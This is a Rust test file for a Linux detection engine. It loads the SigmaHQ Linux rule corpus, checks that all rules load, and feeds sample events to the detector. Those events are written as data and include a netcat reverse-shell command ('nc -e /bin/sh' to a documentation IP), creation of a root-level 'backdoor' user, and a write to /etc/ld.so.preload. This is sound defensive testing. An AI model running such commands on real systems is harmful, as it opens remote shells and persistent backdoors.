//! Loads every SigmaHQ Linux rule from `../shared/data/sigmahq-linux/` (`rules/`,
//! `rules-emerging-threats/`, `rules-threat-hunting/`; outside the repository:
//! DRL 1.1, never copied in), prints loaded / rejected counts with each rejection's
//! reason, and checks that loading never panics and rejects nothing (every
//! rejection reason the engine can give is listed in `rules/README.md`).

use std::fs;
use std::path::{Path, PathBuf};

use shaobing_detect::{DetectConfig, Detector, RuleSource};

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/sigmahq-linux")
}

fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let entries =
        fs::read_dir(dir).unwrap_or_else(|e| panic!("cannot read {}: {e}", dir.display()));
    for entry in entries {
        let path = entry.expect("directory entry").path();
        if path.is_dir() {
            yaml_files(&path, out);
        } else if path
            .extension()
            .is_some_and(|ext| ext == "yml" || ext == "yaml")
        {
            out.push(path);
        }
    }
}

fn corpus() -> Vec<RuleSource> {
    let dir = corpus_dir();
    assert!(
        dir.is_dir(),
        "SigmaHQ Linux rules not found at {} (CI provides them; copy SigmaHQ's rules/linux there to run this test)",
        dir.display()
    );
    let mut files = Vec::new();
    yaml_files(&dir, &mut files);
    files.sort();
    files
        .iter()
        .map(|path| RuleSource {
            origin: path.display().to_string(),
            yaml: fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())),
        })
        .collect()
}

#[test]
fn sigmahq_linux_rules_load() {
    let sources = corpus();
    let files = sources.len();
    assert!(files > 100, "expected the full corpus, found {files} files");
    let (detector, report) = Detector::new(DetectConfig {
        sources,
        ..DetectConfig::default()
    });

    eprintln!(
        "SigmaHQ corpus: {files} files, {} loaded ({} detection, {} correlation, {} filter), {} rejected, {} warnings",
        report.loaded,
        report.detection_rules,
        report.correlation_rules,
        report.filter_rules,
        report.rejected.len(),
        report.warnings.len()
    );
    for rejected in &report.rejected {
        eprintln!("  rejected: {rejected}");
    }
    for warning in &report.warnings {
        eprintln!("  warning: {warning}");
    }

    assert_eq!(detector.rules().len(), report.loaded);
    assert!(
        files >= 250,
        "expected rules, emerging threats and threat hunting ({files} files)"
    );
    assert_eq!(
        report.loaded, files,
        "every SigmaHQ Linux file holds one rule and all load"
    );
    assert!(report.rejected.is_empty(), "{:#?}", report.rejected);
}

#[test]
fn sigmahq_rules_evaluate_real_events_without_panicking() {
    let (mut detector, _) = Detector::new(DetectConfig {
        sources: corpus(),
        ..DetectConfig::default()
    });
    let events = [
        "raw: 'sshd[1]: Failed password for root from 203.0.113.7 port 22 ssh2'\nlogin: {action: ssh_fail, user: root, source_ip: 203.0.113.7, service: sshd}",
        "raw: 'useradd[1]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash'\nlogin: {action: user_add, target_user: backdoor, service: useradd}",
        "process: {exe: /usr/bin/nc, cmdline: 'nc -e /bin/sh 198.51.100.9 4444', parent_exe: /bin/bash, user: www-data}",
        "file: {op: create, path: /etc/ld.so.preload, exe: /usr/bin/tee}",
        "network: {action: connect, direction: outbound, transport: tcp, dst_ip: 198.51.100.9, dst_port: 4444, exe: /usr/bin/nc}",
    ];
    let mut rule_ids = Vec::new();
    for text in events {
        let event = shaobing_detect::event_form::parse_event_yaml(text).expect("event form");
        rule_ids.extend(
            detector
                .process(&event)
                .into_iter()
                .map(|alert| alert.rule_id),
        );
    }
    // SigmaHQ "Privileged User Has Been Created" (keyword rule over the auth line).
    assert!(
        rule_ids
            .iter()
            .any(|id| id == "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"),
        "expected SigmaHQ's privileged user creation rule to fire, got {rule_ids:?}"
    );
}
